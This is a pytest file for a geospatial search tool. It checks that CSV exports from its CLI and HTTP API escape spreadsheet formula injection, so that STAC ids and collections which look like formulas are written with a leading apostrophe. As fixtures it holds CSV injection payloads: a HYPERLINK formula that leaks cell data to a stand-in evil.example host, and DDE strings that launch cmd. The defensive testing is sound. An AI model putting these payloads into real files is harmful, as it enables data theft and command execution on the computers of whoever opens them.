"""CSV exports open safely in a spreadsheet (security trial, finding 2): STAC metadata is anyone's,
and a text cell a spreadsheet would read as a formula is written with a leading ``'``.

A real Qdrant Edge index of two tiny GeoTIFFs ingested through STAC items whose id and collection
are formulas (and one id that is a plain number), embedded with the session's tiny trained
bundle; exported by the CLI (``export``, ``search --out``, ``classify --out``, with and without
``--dissolve``) and by ``POST /api/query/export`` under a real uvicorn, and read back with the
``csv`` module.  GeoParquet keeps the exact texts.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from rsir_stac.cli import main
from rsir_stac.export import FORMULA_STARTS, csv_cell
from tests.conftest import make_geotiff, stac_item_file

pytestmark = pytest.mark.filterwarnings("ignore:Failed to obtain server version")

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
NUMBER = "-12.5"   # a text that is a plain number: written as it is (README, "CSV and spreadsheets")
ITEMS = {LINK: {"collection": DDE, "origin": (500000.0, 3300000.0), "seed": 1},
         NUMBER: {"collection": MINUS, "origin": (500000.0, 3299700.0), "seed": 2}}
TEXT_COLUMNS = ("id", "item_id", "collection", "asset", "href", "datetime", "crs", "model_id", "label", "items")


@pytest.mark.parametrize("value, want", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (LINK, "'" + LINK), (DDE, "'" + DDE),
    # re-check: white space a spreadsheet may trim, and fullwidth signs some take as ASCII
    ("\n=1", "'\n=1"), (" =1", "' =1"), ("\u00a0@A1", "'\u00a0@A1"), ("\ufeff=1", "'\ufeff=1"),
    ("\uff1dHYPERLINK(1)", "'\uff1dHYPERLINK(1)"), (" -12.5", "' -12.5"), ("a =1", "a =1"),
    ("-12.5", "-12.5"), ("+3", "+3"), ("-1e-3", "-1e-3"), ("-.5", "-.5"),
    ("-inf", "'-inf"), ("-nan", "'-nan"), ("-1_000", "'-1_000"), ("-١٢", "'-١٢"), ("-12.5\n", "'-12.5\n"),
    ("scene-1", "scene-1"), ("", ""), (None, None), (-12.5, -12.5), (3, 3), ("{\"a\":\"=1\"}", "{\"a\":\"=1\"}"),
])
def test_the_rule(value, want):
    assert csv_cell(value) == want


def build_hostile_index(root, tiny_bundle):
    """Two scenes (16 tiles each) whose STAC ids and collections are formulas, ingested into
    ``root/idx`` (at 1 m: gsd a whole number); returns ``root``."""
    from rsir_stac.ingest import IngestOptions, ingest

    sources = []
    for n, (item_id, s) in enumerate(ITEMS.items()):
        tif = make_geotiff(root / f"s{n}.tif", width=256, height=256, origin=s["origin"], seed=s["seed"])
        sources.append(stac_item_file(root / f"s{n}.json", item_id, s["collection"], f"202{n + 1}-06-01T10:00:00Z", tif))
    report = ingest(sources, index=str(root / "idx"), model=tiny_bundle,
                    options=IngestOptions(tile_size=64, gsd=None, native_gsd=True))
    assert report.ok and report.points_written == 32, report
    return root


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, tiny_bundle):
    """An index of two scenes (16 tiles each) whose STAC ids and collections are formulas."""
    return build_hostile_index(tmp_path_factory.mktemp("hostile"), tiny_bundle)


def _points(root, bundle):
    from rsir_stac.search import Index

    with Index.open(str(root / "idx"), model=bundle) as idx:
        return [(p.id, p.payload) for p in idx.store.iter_points(with_vectors=False)]


def _read(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _check_safe(rows: list[dict], *, by_item: bool = True) -> None:
    """No text cell a spreadsheet runs; the hostile texts are there, escaped; the number is as it is."""
    assert rows
    for r in rows:
        for k, v in r.items():
            if v and v.startswith(FORMULA_STARTS):
                assert v == NUMBER or k not in TEXT_COLUMNS and float(v) == float(v), (k, v)
    if by_item:
        items = {r["item_id"]: r["collection"] for r in rows}
        assert set(items) <= {"'" + LINK, NUMBER} and items
        for item, coll in items.items():
            assert coll == ("'" + DDE if item == "'" + LINK else "'" + MINUS)


def _cli(*args):
    r = CliRunner().invoke(main, [str(a) for a in args])
    assert r.exit_code == 0, r.output
    return r


def test_cli_export_search_and_classify_csv_are_escaped_and_parquet_exact(hostile, tiny_bundle, tmp_path):
    import geopandas as gpd

    from rsir_stac.labels import LabelSet, make_labels, write_labels

    idx, model = hostile / "idx", tiny_bundle.path
    _cli("export", "--index", idx, "--model", model, "--out", tmp_path / "all.csv", "--no-vectors")
    rows = _read(tmp_path / "all.csv")
    assert len(rows) == 32
    _check_safe(rows)
    assert {r["item_id"] for r in rows} == {"'" + LINK, NUMBER}
    # the typed formats keep the exact texts
    _cli("export", "--index", idx, "--model", model, "--out", tmp_path / "all.parquet", "--no-vectors")
    exact = gpd.read_parquet(tmp_path / "all.parquet")
    assert set(zip(exact["item_id"], exact["collection"])) == {(LINK, DDE), (NUMBER, MINUS)}

    pts = _points(hostile, tiny_bundle)
    first = next(pid for pid, p in pts if p["item_id"] == LINK)
    _cli("search", "--index", idx, "--model", model, "--point-id", first, "-k", "20", "--per-item", "0",
         "--out", tmp_path / "hits.csv")
    rows = _read(tmp_path / "hits.csv")
    assert len(rows) == 20
    _check_safe(rows)

    rec = lambda pid, p: type("H", (), {"id": pid, "payload": p})  # noqa: E731 - a record with id+payload
    a = [rec(pid, p) for pid, p in pts if p["item_id"] == LINK]
    b = [rec(pid, p) for pid, p in pts if p["item_id"] == NUMBER]
    labels = LabelSet(make_labels(a[:4], "positive", model_id=tiny_bundle.model_id).labels
                      + make_labels(b[:4], "negative", model_id=tiny_bundle.model_id).labels, tiny_bundle.model_id)
    lf = write_labels(labels, tmp_path / "labels.geojson")
    _cli("classify", "--labels", lf, "--index", idx, "--model", model, "--threshold", "0", "--holdout", "0",
         "--out", tmp_path / "found.csv")
    rows = _read(tmp_path / "found.csv")
    assert len(rows) == 28   # every tile but the 4 labelled negative
    _check_safe(rows)
    _cli("classify", "--labels", lf, "--index", idx, "--model", model, "--threshold", "0", "--holdout", "0",
         "--dissolve", "--out", tmp_path / "areas.csv")
    rows = _read(tmp_path / "areas.csv")
    _check_safe(rows, by_item=False)
    assert {r["collection"] for r in rows} == {"'" + DDE, "'" + MINUS}
    assert {r["items"] for r in rows} == {"'" + LINK, NUMBER}


def test_api_query_export_csv_is_escaped(hostile, tiny_bundle):
    import httpx

    from rsir_stac.search import Index
    from rsir_stac.serve import create_app
    from tests.conftest import serve_in_thread

    pts = _points(hostile, tiny_bundle)
    first = next(pid for pid, p in pts if p["item_id"] == NUMBER)
    with Index.open(str(hostile / "idx"), model=tiny_bundle) as idx, serve_in_thread(create_app(idx)) as base:
        body = {"positives": [{"point_id": first}], "k": 30, "per_item": 0}
        r = httpx.post(f"{base}/api/query/export", json={**body, "format": "csv"}, timeout=60)
        assert r.status_code == 200, r.text
        assert r.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(r.text.splitlines()))
        assert len(rows) == 30
        _check_safe(rows)
        assert {r["item_id"] for r in rows} == {"'" + LINK, NUMBER}
        # GeoJSON is exact
        r = httpx.post(f"{base}/api/query/export", json={**body, "format": "geojson"}, timeout=60)
        assert {f["properties"]["item_id"] for f in r.json()["features"]} == {LINK, NUMBER}
